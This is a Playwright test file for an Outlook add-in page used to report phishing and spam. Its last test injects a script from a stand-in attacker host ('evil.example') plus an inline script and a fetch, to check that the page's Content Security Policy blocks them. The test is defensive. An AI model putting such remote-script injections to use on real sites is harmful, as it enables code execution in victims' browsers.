"""The page of the Outlook add-in in Chromium, with a stand-in for Office.js at Microsoft's address."""

import asyncio
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any, cast

import pytest
from aiohttp import web
from playwright.sync_api import Browser, Page, Route

from mailwarden.user_reports.outlook import OFFICE, OutlookAddIn
from mailwarden.user_reports.settings import OutlookConfig

SITE = "https://mail.company.example"
ADDRESS = "phishing@company.example"
STAND_IN = """
window.opened = [];
window.Office = {
  context: {
    displayLanguage: "LANGUAGE",
    mailbox: {
      item: ITEM,
      displayNewMessageForm: (form) => { window.opened.push(form); },
    },
  },
  onReady: (ready) => ready({ host: "HOST" }),
};
"""
ITEM = '{ itemId: "AAMk=", subject: "Pay <b>now</b> / today" }'


class Site:
    """Answers for abby and Microsoft; every other request is noted and fails."""

    def __init__(self, office: str) -> None:
        self.strangers: list[str] = []
        self._office = office
        routes = OutlookAddIn(OutlookConfig(ADDRESS, "Company"), SITE).routes()
        with ThreadPoolExecutor(1) as thread:  # Playwright has an event loop in this one
            self._answers = {
                route.path: thread.submit(asyncio.run, cast("Any", route.handler)(None)).result() for route in routes
            }

    def answer(self, route: Route) -> None:
        url = route.request.url
        if url.startswith(f"{OFFICE}/"):
            route.fulfill(body=self._office, content_type="text/javascript")
        elif (response := self._answers.get(url.removeprefix(SITE))) is not None:
            found = cast("web.Response", response)
            route.fulfill(body=cast("bytes", found.body), headers=dict(found.headers))
        else:
            self.strangers.append(url)
            route.abort()


def page_of(browser: Browser, office: str) -> tuple[Page, Site]:
    site, page = Site(office), browser.new_page()
    page.route("**/*", site.answer)
    page.goto(f"{SITE}/outlook/report.html")
    return page, site


def office(language: str = "en-US", item: str = ITEM, host: str = "Outlook") -> str:
    return STAND_IN.replace("LANGUAGE", language).replace("ITEM", item).replace("HOST", host)


@pytest.fixture
def pages(chromium: Browser) -> Iterator[Browser]:
    yield chromium
    for context in chromium.contexts:
        context.close()


@pytest.mark.slow
@pytest.mark.parametrize(
    ("button", "prefix"), [("Phishing or fraud", "3|"), ("Spam", "1|"), ("Not spam", "2|")], ids=["3", "1", "2"]
)
def test_a_button_opens_a_mail_with_the_message(pages: Browser, button: str, prefix: str) -> None:
    page, site = page_of(pages, office())
    page.get_by_role("button", name=button, exact=True).click()
    [form] = page.evaluate("window.opened")
    assert (form["toRecipients"], form["subject"]) == ([ADDRESS], f"{prefix}Pay <b>now</b> / today")
    [attachment] = form["attachments"]
    assert (attachment["type"], attachment["itemId"]) == ("item", "AAMk=")
    assert not set('<>/\\:*?"|') & set(attachment["name"])
    assert "<b>" not in form["htmlBody"]
    page.get_by_text("Press Send in the new mail").wait_for()
    assert site.strangers == []


@pytest.mark.slow
def test_the_page_has_the_language_of_outlook(pages: Browser) -> None:
    page, _ = page_of(pages, office("de-DE"))
    page.get_by_role("button", name="Phishing oder Betrug").wait_for()
    assert page.locator("html").get_attribute("lang") == "de"


@pytest.mark.slow
def test_without_a_message_the_page_says_where_to_send_it(pages: Browser) -> None:
    page, _ = page_of(pages, office(item="null"))
    page.get_by_role("button", name="Spam", exact=True).click()
    page.get_by_text(f"Forward the message as attachment to {ADDRESS}.").wait_for()


@pytest.mark.slow
@pytest.mark.parametrize("script", [office(host="Word"), ""], ids=["word", "no office"])
def test_outside_of_outlook_no_button_works(pages: Browser, script: str) -> None:
    page, _ = page_of(pages, script)
    page.get_by_text("Open this page with the button in Outlook.").wait_for()
    assert page.get_by_role("button", disabled=True).count() == 3


@pytest.mark.slow
def test_the_policy_stops_scripts_and_connections_elsewhere(pages: Browser) -> None:
    page, site = page_of(pages, office())
    blocked = page.evaluate(
        """async () => {
            const seen = [];
            document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
            const script = document.createElement("script");
            script.src = "https://evil.example/x.js";
            document.head.append(script);
            const inline = document.createElement("script");
            inline.textContent = "window.inline = true";
            document.head.append(inline);
            await fetch("https://evil.example/x").catch(() => {});
            await new Promise((resolve) => setTimeout(resolve, 200));
            return [seen.sort(), window.inline === true];
        }"""
    )
    assert blocked == [["connect-src", "script-src-elem", "script-src-elem"], False]
    assert site.strangers == []
